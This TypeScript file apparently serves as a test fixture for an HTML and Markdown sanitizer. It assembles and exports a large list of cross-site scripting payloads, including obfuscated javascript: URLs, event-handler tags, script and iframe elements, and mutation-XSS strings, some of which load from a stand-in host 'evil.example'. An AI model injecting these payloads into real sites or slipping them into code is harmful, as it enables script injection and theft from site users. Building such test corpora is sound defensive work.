/** Ways in which HTML has been made to run script, gathered by kind. Own examples of well-known vectors. */

const SCRIPT_ADDRESSES = [
  ...[
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    '\tjavascript:alert(1)',
  ],
  ...[
    'java\nscript:alert(1)',
    'java\tscript:alert(1)',
    'java\r\nscript:alert(1)',
    '\u0001javascript:alert(1)',
  ],
  ...[
    '\u00a0javascript:alert(1)',
    '\ufeffjavascript:alert(1)',
    'javascript\0:alert(1)',
    'java\0script:alert(1)',
  ],
  ...[
    '&#106;avascript:alert(1)',
    '&#x6A;avascript:alert(1)',
    '&#0000106avascript:alert(1)',
    'javascript&colon;alert(1)',
  ],
  ...[
    'java&Tab;script:alert(1)',
    'java&NewLine;script:alert(1)',
    'javascript&#58;alert(1)',
    '&#1;javascript:alert(1)',
  ],
  ...[
    'jav&#x09;ascript:alert(1)',
    'javascript:/*--></title></style>*/alert(1)',
    'javascript://example.org/%0aalert(1)',
  ],
  ...[
    'vbscript:msgbox(1)',
    'VbScRiPt:x',
    'livescript:x',
    'data:text/html,<script>alert(1)</script>',
  ],
  ...[
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg onload=alert(1)>',
  ],
  ...[
    'data:,x',
    'blob:https://example.org/x',
    'file:///etc/passwd',
    'about:blank',
    'view-source:x',
    '//evil.example',
  ],
];

const HOLDERS: ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}'>x</a>`,
  (address) => `<img src="${address}">`,
  (address) => `<blockquote cite="${address}">x</blockquote>`,
  (address) => `[x](<${address.replace(/[\r\n]/g, '')}>)`,
];

const HANDLERS = [
  ...[
    '<img src=x onerror=alert(1)>',
    '<img/src=x/onerror=alert(1)>',
    '<img src="x"onerror="alert(1)">',
  ],
  ...[
    '<IMG SRC=x ONERROR=alert(1)>',
    '<img src=x onerror\n=alert(1)>',
    '<img src=x\u000conerror=alert(1)>',
  ],
  ...[
    '<img src=`x`onerror=alert(1)>',
    '<img src=x onerror=&#97;lert(1)>',
    '<img """><script>alert(1)</script>">',
  ],
  ...[
    '<svg onload=alert(1)>',
    '<svg/onload=alert(1)>',
    '<svg><animate onbegin=alert(1) attributeName=x>',
  ],
  ...[
    '<svg><set onbegin=alert(1)>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  ],
  ...[
    '<body onload=alert(1)>',
    '<body onpageshow=alert(1)>',
    '<html onmouseover=alert(1)>',
    '<p onclick=alert(1)>x</p>',
  ],
  ...[
    '<input autofocus onfocus=alert(1)>',
    '<select autofocus onfocus=alert(1)>',
    '<textarea autofocus onfocus=alert(1)>',
  ],
  ...[
    '<video src=x onerror=alert(1)>',
    '<audio src=x onerror=alert(1)>',
    '<video><source onerror=alert(1)></video>',
  ],
  ...[
    '<details open ontoggle=alert(1)>x</details>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<a onmouseenter=alert(1)>x</a>',
  ],
  ...[
    '<div onpointerover=alert(1)>x</div>',
    '<em oncut=alert(1)>x</em>',
    '<table onfocusin=alert(1)><td>x</table>',
  ],
  ...[
    '<strong style="animation:x" onanimationstart=alert(1)>x</strong>',
    '<xss onbeforescriptexecute=alert(1)>',
  ],
  ...[
    '<button popovertarget=x>y</button><p popover id=x onbeforetoggle=alert(1)>z</p>',
    '<a href=x ping="//evil.example">y</a>',
  ],
];

const ELEMENTS = [
  ...[
    '<script>alert(1)</script>',
    '<script src=//evil.example></script>',
    '<SCRIPT>alert(1)</SCRIPT >',
    '<script/x>alert(1)</script>',
  ],
  ...[
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<<script>alert(1)//<</script>',
    '<script>alert(1)',
    '</p><script>alert(1)</script>',
  ],
  ...[
    '<script\0>alert(1)</script>',
    '<\0script>alert(1)</script>',
    '\u003cscript\u003ealert(1)\u003c/script\u003e',
    '<script type=module>1</script>',
  ],
  ...[
    '<iframe src=javascript:alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<frameset onload=alert(1)>',
    '<frame src=x>',
  ],
  ...[
    '<object data=javascript:alert(1)>',
    '<embed src=javascript:alert(1)>',
    '<applet code=x>',
    '<param name=src value=javascript:1>',
  ],
  ...[
    '<base href="javascript:/">',
    '<base target=_blank>',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  ],
  ...[
    '<link rel=stylesheet href=//evil.example>',
    '<link rel=import href=x>',
    '<style>@import "//evil.example";</style>',
  ],
  ...[
    '<style>*{background:url(javascript:1)}</style>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="position:fixed;inset:0">x</p>',
  ],
  ...[
    '<form action=javascript:alert(1)><button>x</button></form>',
    '<button formaction=javascript:alert(1)>x</button>',
    '<isindex type=image>',
  ],
  ...[
    '<form id=document><input name=cookie></form>',
    '<a id=location href=x>y</a>',
    '<img name=body>',
    '<p class="admin" id="conversation">x</p>',
  ],
  ...[
    '<template><script>alert(1)</script></template>',
    '<slot onslotchange=alert(1)>',
    '<portal src=x>',
    '<dialog open>x</dialog>',
  ],
  ...[
    '<xml><i>x</i></xml>',
    '<?xml-stylesheet href="javascript:1"?>',
    '<!DOCTYPE x [<!ENTITY a "b">]>',
    '<![CDATA[<script>alert(1)</script>]]>',
  ],
  ...[
    '<bgsound src=javascript:1>',
    '<layer src=x>',
    '<keygen autofocus onfocus=alert(1)>',
    '<noembed><img src=x onerror=alert(1)></noembed>',
  ],
];

/** Those that become something else when they are parsed a second time. */
const MUTATIONS = [
  ...[
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<noframes><img src=x onerror=alert(1)></noframes>',
    '<xmp><script>alert(1)</script></xmp>',
  ],
  ...[
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  ],
  ...[
    '<title><img title="</title><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  ],
  ...[
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  ],
  ...[
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<math><annotation-xml encoding="text/html"><script>1</script>',
  ],
  ...[
    '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    '<svg><desc><p title="</desc><img src=x onerror=alert(1)>">',
  ],
  ...[
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<plaintext><img src=x onerror=alert(1)>',
    '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  ],
  ...[
    '<!--><img src=x onerror=alert(1)>-->',
    '<!---><img src=x onerror=alert(1)>-->',
    '<!--x--!><img src=x onerror=alert(1)>',
    '<!-- --\n><img src=x onerror=alert(1)>',
  ],
  ...[
    '<p title="`<img src=x onerror=alert(1)>">x</p>',
    '<img alt="``onerror=alert(1)" src=x>',
    '<p title="x&quot; onclick=&quot;alert(1)">y</p>',
  ],
  ...[
    '<table><tr><td><svg><style></table><img src=x onerror=alert(1)>',
    '<select><template><img src=x onerror=alert(1)></template></select>',
  ],
  ...[
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
    '&#60;img src=x onerror=alert(1)&#62;',
    '&lt;img src=x onerror=alert(1)',
  ],
  ...[
    '<a href="x" title="</a><script>alert(1)</script>">y</a>',
    "<a title='\"><script>alert(1)</script>'>y</a>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
  ],
  ...[
    '<p lang="x" dir=">" onclick=alert(1)>y</p>',
    '<p <p onclick=alert(1)>x',
    '<img src=x onerror=alert(1)//',
    '<a href=x onclick=alert(1)',
    '<x/onclick=alert(1)>y',
  ],
  ...[
    '`<img src=x onerror=alert(1)>`',
    '```html\n<script>alert(1)</script>\n```',
    '![x](x "onerror=alert(1)")',
    '[x]: javascript:alert(1)\n[x]',
    '<javascript:alert(1)>',
  ],
  ...[
    '![x](javascript:alert(1))',
    '[x](x"onclick="alert(1))',
    '[<img src=x onerror=alert(1)>](x)',
    '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
    '<https://x.org/"onclick="alert(1)>',
  ],
];

/** Each is one text that somebody may write into a field. */
export const PAYLOADS: string[] = [
  ...SCRIPT_ADDRESSES.flatMap((address) => HOLDERS.map((hold) => hold(address))),
  ...HANDLERS,
  ...ELEMENTS,
  ...MUTATIONS,
];

/** Addresses that lead elsewhere than to the web. */
export const DANGEROUS_ADDRESSES = SCRIPT_ADDRESSES;
